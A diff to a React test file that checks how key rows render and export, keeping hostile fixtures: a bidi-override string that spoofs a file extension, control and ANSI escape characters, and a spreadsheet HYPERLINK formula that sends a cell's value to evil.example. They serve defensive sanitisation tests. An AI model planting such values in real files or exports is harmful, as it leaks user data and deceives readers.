@@ -1,9 +1,9 @@
 import { renderToStaticMarkup } from "react-dom/server";
 import { describe, expect, it } from "vitest";
 import { changeKey } from "#emulators/index.ts";
-import { descriptionCell } from "#components/keys/key-cells.tsx";
-import { KeyName } from "#components/keys/key-name.tsx";
+import { FreeText } from "#components/keys/free-text.tsx";
 import { TagList } from "#components/keys/tag-list.tsx";
+import { PathName } from "#components/ui/path-name.tsx";
 import { exportKeys } from "#lib/inventory/export-keys.ts";
 import { readColumns } from "#lib/inventory/export/export-columns.ts";
 import type { KeyRow } from "#lib/model/key.ts";
@@ -16,12 +16,12 @@ const BIDI = "\u202Egnp.yek\u202C \u2066א\u2069 \u200F";
 const CONTROL = "a\u0000b\u0007c\u001b[31md\ud83de\r\nf";
 const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"open")`;
 
-/** A row's cells as the page draws them. */
+/** What others wrote in a row, as the page draws it. */
 const html = (row: KeyRow) =>
   renderToStaticMarkup(
     <>
-      <KeyName row={row} />
-      {descriptionCell(row)}
+      <PathName name={row.alias ?? ""} />
+      <FreeText text={row.description ?? ""} />
       <TagList tags={row.tags ?? {}} />
     </>,
   );
